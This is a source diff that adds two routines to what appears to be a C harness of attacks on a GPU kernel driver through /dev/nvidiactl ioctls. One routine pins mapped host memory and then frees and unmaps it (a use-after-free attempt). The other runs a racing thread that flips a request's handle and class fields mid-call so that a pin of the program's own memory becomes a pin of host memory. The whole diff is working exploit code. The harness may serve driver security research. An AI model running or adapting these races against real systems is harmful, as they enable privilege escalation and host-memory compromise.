@@ -379,6 +379,74 @@ static void attack_pin(char **a) {
     say("again", host_memory(&s, piece, &handle));
     for (;;) pause();
 }
+/* pin-mapped PIECE_MIB MOST_MIB: memory of the host's is pinned where it is mapped, and then freed, unmapped and its file closed. */
+static void attack_pin_mapped(char **a) {
+    struct session s = begin();
+    uint64_t piece = number(a, 0, 64) * MIB, most = number(a, 1, 1 << 16) * MIB, count = 0;
+    long status = register_card(&s);
+    say("registered", status);
+    for (; !status && count * piece < most; count++) {
+        uint32_t handle = 0;
+        if ((status = host_memory(&s, piece, &handle))) break;
+        int fd = xopen("/dev/nvidiactl");
+        if ((status = rm_map(&s, handle, piece, fd))) break;
+        void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+        if (at == MAP_FAILED) {
+            status = -errno;
+            break;
+        }
+        struct rm_pin call = pin_call(&s, 0x70000000 + count, at, piece);
+        status = ioctl(s.card, RM(0x27, struct rm_pin), &call) < 0 ? -errno : (long)call.status;
+        rm_free(s.control, s.client, handle);
+        munmap(at, piece);
+        close(fd);
+        if (status) break;
+    }
+    say("status", status);
+    say("kept", count * piece);
+    /* All of it is let go of with what pins it. */
+    for (uint64_t i = 0; i < count; i++) rm_free(s.control, s.client, 0x70000000 + i);
+    uint32_t handle = 0;
+    say("again", host_memory(&s, piece, &handle));
+    for (;;) pause();
+}
+static struct rm_pin racing_pin;
+/* Handle and class, which lie beside each other. */
+static _Atomic uint64_t honest, dishonest;
+static void *flip_pin(void *unused) {
+    (void)unused;
+    volatile uint64_t *both = (volatile uint64_t *)&racing_pin.handle;
+    while (!atomic_load(&stop)) *both = atomic_load(&dishonest), *both = atomic_load(&honest);
+    return NULL;
+}
+/* race-pin ROUNDS MIB [name]: a call that is to pin memory of the program's is turned into one for memory of the host's, under its own name or
+ * another. Only the kernel can execute it, so nobody can copy it before. */
+static void attack_race_pin(char **a) {
+    struct session s = begin();
+    uint64_t rounds = number(a, 0, 1500), piece = number(a, 1, 4) * MIB, made[3] = {0};
+    int other_name = a[0] && a[1] && a[2];
+    say("registered", register_card(&s));
+    void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    if (at == MAP_FAILED) die("mmap");
+    pthread_t thread;
+    for (uint64_t i = 0; i < rounds; i++) {
+        uint32_t handle = 0x71000000 + i, other = other_name ? 0x1000 + i : handle;
+        atomic_store(&honest, handle | 0x71ull << 32);
+        atomic_store(&dishonest, other | 0x3eull << 32);
+        if (!i) pthread_create(&thread, NULL, flip_pin, NULL);
+        racing_pin = pin_call(&s, handle, at, piece);
+        ioctl(s.card, RM(0x27, struct rm_pin), &racing_pin);
+        uint32_t class = class_of(&s, handle);
+        if (class == 0x71) made[0]++, rm_free(s.control, s.client, handle);
+        else if (class == 0x3e || (other_name && class_of(&s, other) == 0x3e)) made[1]++;
+        else made[2]++;
+    }
+    atomic_store(&stop, 1);
+    pthread_join(thread, NULL);
+    say("own", made[0]);
+    say("neither", made[2]);
+    say("host", made[1]);
+}
 /* objects CLASS: as many as there are of what has hidden memory. */
 static void attack_objects(char **a) {
     struct session s = begin();
@@ -957,7 +1025,8 @@ static const struct {
     {"garbage", attack_garbage}, {"flood", attack_flood}, {"lend", attack_lend}, {"borrow", attack_borrow}, {"keep", attack_keep},
     {"own-table", attack_own_table}, {"mknod", attack_mknod}, {"user-namespace", attack_user_namespace},
     {"listener", attack_listener}, {"block", attack_block}, {"fuse", attack_fuse}, {"stopped", attack_stopped}, {"signals", attack_signals},
-    {"recycled", attack_recycled}, {"pin", attack_pin}, {"managed", attack_managed}, {"grow", attack_grow},
+    {"recycled", attack_recycled}, {"pin", attack_pin}, {"pin-mapped", attack_pin_mapped},
+    {"race-pin", attack_race_pin}, {"managed", attack_managed}, {"grow", attack_grow},
 };
 
 int main(int count, char **arguments) {
